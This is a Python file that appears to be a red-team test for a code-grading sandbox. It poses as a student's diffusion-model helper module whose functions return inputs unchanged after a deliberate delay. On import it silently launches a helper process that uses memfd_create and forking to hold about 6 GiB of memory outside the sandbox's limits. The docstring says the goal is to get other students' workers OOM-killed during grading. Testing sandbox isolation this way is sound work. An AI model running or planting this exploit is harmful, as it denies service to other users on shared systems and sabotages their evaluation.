"""Attack: hold far more memory than the worker's 192 MiB budget, outside its address space.

RLIMIT_AS bounds what a process maps; the private /tmp and /dev/shm are 64 MiB tmpfs. But
``memfd_create`` files are shmem that nobody maps: each may grow to RLIMIT_FSIZE (16 MiB) and a
process may hold RLIMIT_NOFILE (256) of them, times RLIMIT_NPROC (64) processes. A small helper
process (a fresh interpreter: tiny RSS, so the OOM killer prefers bigger sandboxed workers, such as
another student's, graded at the same time) fills memfds until it holds HOG_MB, then sleeps; the
worker keeps answering slowly so that the memory stays held while the others are graded.

What must hold instead: a worker cannot hold more than its memory budget (plus its tmpfs); other
students' workers are never OOM-killed because of it; everything is freed when it is stopped.
"""
import os
import subprocess
import sys
import time

HOG_MB = int(os.environ.get("HOG_MB", "0") or 0) or 6144

_HELPER = r"""
import os, sys, time
want = int(sys.argv[1]) << 20
chunk = b"\x01" * (16 << 20)
held = []
total = 0
procs = 0
while total < want:
    if len(held) >= 240:                     # RLIMIT_NOFILE: go on in a child process
        if os.fork() == 0:
            held = []
            continue
        break
    try:
        fd = os.memfd_create("hog")
        os.write(fd, chunk)
    except OSError:
        break
    held.append(fd)
    total += len(chunk)
while True:
    time.sleep(3600)
"""


def _start():
    try:
        p = subprocess.Popen([sys.executable, "-c", _HELPER, str(HOG_MB)], start_new_session=True,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return p.pid
    except OSError:
        return 0


_HOG = _start()


def _slow(x):
    time.sleep(15)  # under the idle limit: the worker (and the memory) stays alive longer
    return x


def patchify(z, p):
    return _slow(z)


def unpatchify(tokens, p, c, h, w):
    return _slow(tokens)


def modulate(x, shift, scale):
    return _slow(x)


def count_parameters(model):
    return _slow(0)


def find_conv2d(model):
    return _slow([])


def cfg_combine(eps_cond, eps_uncond, scale):
    return _slow(eps_cond)
